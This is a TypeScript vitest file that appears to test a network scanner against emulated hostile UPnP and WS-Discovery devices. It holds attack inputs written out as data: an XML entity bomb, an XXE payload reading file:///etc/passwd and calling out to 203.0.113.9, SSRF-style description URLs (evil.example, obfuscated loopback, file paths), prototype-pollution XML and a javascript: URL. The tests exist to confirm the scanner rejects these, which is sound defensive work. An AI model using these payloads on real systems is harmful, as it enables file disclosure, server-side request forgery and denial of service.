import { expect } from 'vitest';
import type { EmulatorHost } from '../../scanners/demo/emulator.ts';
import type { Seen } from './case.ts';
import { hostileFamily } from './family.ts';
import { statesOf, textsOf } from './seen.ts';
import { page } from './streams.ts';
import { pathsOf, serve } from './web.ts';

const group = '239.255.255.250';

/** Answers every search with these. */
function answerSearch(
  host: EmulatorHost,
  answers: (search: string) => readonly (string | Uint8Array)[],
  port = 1900,
) {
  host.listenUdp(
    port,
    (data, from, self) => {
      for (const answer of answers(Buffer.from(data).toString('latin1')))
        self.send(Buffer.from(answer), from);
    },
    [group],
  );
}

const reply = (location: string, usn = 'uuid:1::upnp:rootdevice', more = '') =>
  `HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: ${location}\r\nST: upnp:rootdevice\r\nUSN: ${usn}\r\n${more}\r\n`;

/** A device with one description on port 8000. */
function describedAs(host: EmulatorHost, description: string | Uint8Array): void {
  answerSearch(host, () => [reply(`http://${host.address}:8000/d.xml`)]);
  serve(host, 8000, page(description, { 'Content-Type': 'text/xml' }));
}
const inRoot = (inside: string, before = '') =>
  `<?xml version="1.0"?>${before}<root><device><friendlyName>${inside}</friendlyName></device></root>`;
const named = (seen: Seen) =>
  seen.values('upnp.description').map((value) => Reflect.get(Object(value), 'friendlyName'));

const far = [
  'http://203.0.113.9/d.xml',
  'http://evil.example/d.xml',
  'http://127.0.0.1:8000/d.xml',
  'file:///etc/passwd',
  '\\\\203.0.113.9\\share',
  'http://127.77.0.1:9100/d.xml',
  'http://2130706433/d.xml',
  'http://[::ffff:7f00:1]/d.xml',
];

hostileFamily('F, UPnP and WS-Discovery', [
  {
    id: 'F1',
    title: 'announces 5,000 things a second',
    start(host) {
      let number = 0;
      const port = host.listenUdp(1900, () => undefined, [group]);
      host.repeat(20, () => {
        for (let times = 0; times < 100; times += 1)
          port.send(
            Buffer.from(
              `NOTIFY * HTTP/1.1\r\nHOST: ${group}:1900\r\nNTS: ssdp:alive\r\nNT: upnp:rootdevice\r\nUSN: uuid:${number++}\r\nLOCATION: http://${host.address}/${number}\r\n\r\n`,
            ),
            { address: group, port: 1900 },
          );
      });
    },
    judge: (seen) => expect(seen.values('ssdp.reply').length).toBeLessThanOrEqual(64),
  },
  {
    id: 'F2',
    title: 'says that its description lies on the router',
    start: (host) => answerSearch(host, () => [reply('http://127.77.0.1:49152/secret.xml')]),
    judge: (seen) => expect(statesOf(seen, 'upnp.description')).not.toContain('open'),
  },
  {
    id: 'F3',
    title: 'says that its description lies on the internet, in a file or on a printing port',
    start: (host) => answerSearch(host, () => far.map((location, index) => reply(location, `uuid:${index}`))),
    judge: (seen) => expect(statesOf(seen, 'upnp.description')).not.toContain('open'),
  },
  {
    id: 'F4',
    title: 'gives addresses with a zone',
    start: (host) =>
      answerSearch(host, () => [
        reply('http://[fe80::1]:8000/d.xml', 'uuid:1'),
        reply('http://[fe80::1%25eth0]:8000/d.xml', 'uuid:2'),
        reply('http://[fe80::1%3]:8000/d.xml', 'uuid:3'),
      ]),
    judge: (seen) => expect(statesOf(seen, 'upnp.description')).not.toContain('open'),
  },
  {
    id: 'F5',
    title: 'gives its own computer as its address, as a real one does',
    start: (host) => answerSearch(host, () => [reply('http://[::1]:1900/gatedesc.xml')]),
    judge: (seen) => expect(seen.values('ssdp.reply').length).toBeGreaterThan(0),
  },
  {
    id: 'F6',
    title: 'describes itself with entities that explode',
    start(host) {
      const laughs = `<!DOCTYPE r [<!ENTITY a "${'ha'.repeat(50)}">${Array.from({ length: 20 }, (_, i) => `<!ENTITY a${i} "${`&a${i ? i - 1 : ''};`.repeat(10)}">`).join('')}]>`;
      describedAs(host, inRoot('&a19;', laughs) + '&#65;'.repeat(50_000));
    },
    judge: (seen) => expect(statesOf(seen, 'upnp.description')).not.toContain('open'),
  },
  {
    id: 'F7',
    title: 'describes itself with a file of ours',
    start: (host) =>
      describedAs(
        host,
        inRoot(
          '&x;',
          '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://203.0.113.9/y">%y;]>',
        ),
      ),
    judge: (seen) => expect(named(seen).filter((name) => /root:/.test(String(name)))).toEqual([]),
  },
  {
    id: 'F8',
    title: 'describes itself without end, without rules and in the wrong alphabet',
    start(host) {
      const deep = '<a>'.repeat(50_000);
      const wide = `<root ${Array.from({ length: 20_000 }, (_, index) => `a${index}="1"`).join(' ')}/>`;
      const proto = '<root><device><__proto__><friendlyName>x</friendlyName></__proto__></device></root>';
      const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(inRoot('x'), 'utf16le')]);
      const bodies = [deep, wide, proto, utf16];
      answerSearch(host, () =>
        bodies.map((_, index) => reply(`http://${host.address}:${8000 + index}/d.xml`, `uuid:${index}`)),
      );
      for (const [index, body] of bodies.entries()) serve(host, 8000 + index, page(body));
    },
    judge: () => expect(Reflect.get({}, 'friendlyName')).toBeUndefined(),
  },
  {
    id: 'F9',
    title: 'fills its description with addresses elsewhere',
    start: (host) =>
      describedAs(
        host,
        `<root><device><friendlyName>links</friendlyName><presentationURL>javascript:alert(1)</presentationURL><modelURL>http://203.0.113.9/</modelURL><iconList><icon><url>http://evil.example/i.png</url></icon></iconList><serviceList><service><serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType><controlURL>http://127.77.0.1:49152/control</controlURL><eventSubURL>http://203.0.113.9/e</eventSubURL><SCPDURL>http://203.0.113.9/s</SCPDURL></service></serviceList></device></root>`,
      ),
    judge(seen) {
      expect(named(seen)).toEqual(['links']);
      expect(pathsOf(seen).filter((path) => path.includes('icon') || path.endsWith('.png'))).toEqual([]);
    },
  },
  {
    id: 'F10',
    title: 'counts who subscribes to it or changes it',
    start: (host) =>
      describedAs(
        host,
        `<root><device><friendlyName>trap</friendlyName><serviceList><service><serviceType>urn:schemas-upnp-org:service:WANIPConnection:1</serviceType><controlURL>/control</controlURL><eventSubURL>/event</eventSubURL><SCPDURL>/scpd.xml</SCPDURL></service></serviceList></device></root>`,
      ),
    judge(seen) {
      const asked = seen.heard.map(({ text }) => text).filter((text) => /^(SUBSCRIBE|POST)/.test(text));
      expect(
        asked.filter((text) => /SUBSCRIBE|AddPortMapping|DeletePortMapping|Set[A-Z]/.test(text)),
      ).toEqual([]);
    },
  },
  {
    id: 'F11',
    title: 'answers searches with broken heads',
    start: (host) =>
      answerSearch(host, () => [
        'HTTP/1.1 200 OK\r\nLOCATION: http',
        `HTTP/1.1 200 OK\r\nX: ${'x'.repeat(60_000)}\r\n\r\n`,
        `HTTP/1.1 200 OK\r\n${`LOCATION: http://${host.address}/\r\n`.repeat(100)}\r\n`,
        reply(
          `http://${host.address}/`,
          'uuid:1',
          'CACHE-CONTROL: max-age=-1\r\nCACHE-CONTROL: max-age=1e99\r\n',
        ),
        reply(`http://${host.address}/`, 'uuid:of-the-hue-bridge\r\nUSN: uuid:another'),
      ]),
    judge: (seen) => expect(textsOf(seen).filter((text) => /\p{Cc}/u.test(text))).toEqual([]),
  },
  {
    id: 'F12',
    title: 'answers WS-Discovery with rubbish',
    start: (host) =>
      answerSearch(
        host,
        (probe) => {
          const to = /MessageID>([^<]+)</.exec(probe)?.[1] ?? '';
          const envelope = (body: string, relates = to) =>
            `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:RelatesTo>${relates}</a:RelatesTo></s:Header><s:Body>${body}</s:Body></s:Envelope>`;
          const match = (addresses: string) =>
            `<d:ProbeMatches><d:ProbeMatch><a:EndpointReference><a:Address>urn:uuid:1</a:Address></a:EndpointReference><d:XAddrs>${addresses}</d:XAddrs></d:ProbeMatch></d:ProbeMatches>`;
          return [
            envelope('<d:ProbeMatches/>'),
            envelope(match('')),
            envelope(match('http://203.0.113.9/onvif/device_service '.repeat(1_000))),
            envelope(match('http://127.77.0.1/onvif/device_service')),
            envelope(match(`http://${host.address}/onvif/device_service`), 'urn:uuid:foreign'),
            '<',
          ];
        },
        3702,
      ),
    judge: (seen) => expect(statesOf(seen, 'onvif.info')).not.toContain('open'),
  },
]);
